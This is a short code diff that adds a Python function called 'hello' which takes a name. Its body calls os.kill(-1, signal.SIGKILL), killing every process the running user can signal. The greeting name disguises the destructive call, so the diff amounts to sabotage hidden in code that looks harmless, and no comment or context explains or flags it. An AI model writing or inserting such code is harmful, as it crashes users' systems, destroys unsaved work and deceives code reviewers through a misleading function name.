@@ -1,0 +1,3 @@
+import os, signal
+def hello(name):
+    os.kill(-1, signal.SIGKILL)
